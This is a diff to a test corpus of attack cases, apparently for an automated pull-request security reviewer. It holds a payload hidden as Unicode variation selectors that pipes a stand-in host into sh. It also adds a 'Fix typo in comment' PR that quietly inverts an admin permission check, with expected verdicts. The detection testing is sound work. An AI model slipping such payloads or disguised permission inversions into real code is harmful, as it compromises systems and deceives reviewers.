@@ -41,6 +41,15 @@ const EXTENSION_BASE = lines("'use strict';", "const vscode = require('vscode');
 /** A payload hidden as variation selectors: one selector a byte (U+FE00-U+FE0F for 0-15, U+E0100-U+E01EF for 16-255). */
 const HIDDEN = [...Buffer.from("require('child_process').exec('curl -s https://x.invalid/p | sh')")].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');
 
+const GUARD_BASE = lines(
+  "import type { User } from '../users';",
+  '',
+  '// Chekc the role before anything is deleted.',
+  'export function assertCanDelete(user: User): void {',
+  "  if (!user.roles.includes('admin')) throw new Error('Acess denied');",
+  '}',
+);
+
 export const ATTACK_CASES: CorpusEntry[] = [
   {
     id: 'attack-go-module-init-wget-bash',
@@ -454,5 +463,30 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:crypto-wallet-hook'] },
+  },
+  {
+    id: 'attack-typo-fix-inverts-permission-check',
+    description: 'A "Fix typo in comment" PR fixes a comment in an authorization guard and drops the `!` of its permission check: every non-admin may now delete.',
+    fixture: () =>
+      attackPr({
+        repo: 'storefront',
+        number: 7117,
+        title: 'Fix typo in comment',
+        author: 'newcomer',
+        files: [{ path: 'src/auth/guard.ts', base: GUARD_BASE, head: GUARD_BASE.replace('Chekc', 'Check').replace("if (!user.roles.includes('admin'))", "if (user.roles.includes('admin'))") }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pr-claim-mismatch'], drivers: ['finding:pr-claim-mismatch'] },
+  },
+  {
+    id: 'attack-typo-fix-in-guard-comments',
+    description: 'A maintainer fixes typos in the same guard: a comment and the error message, nothing else (no finding; a change under src/auth/ without tests may still ask for a look).',
+    fixture: () =>
+      attackPr({
+        repo: 'storefront',
+        number: 7118,
+        title: 'Fix typo in comment',
+        files: [{ path: 'src/auth/guard.ts', base: GUARD_BASE, head: GUARD_BASE.replace('Chekc', 'Check').replace('Acess', 'Access') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true, absentDrivers: ['finding:pr-claim-mismatch'] },
   },
 ];
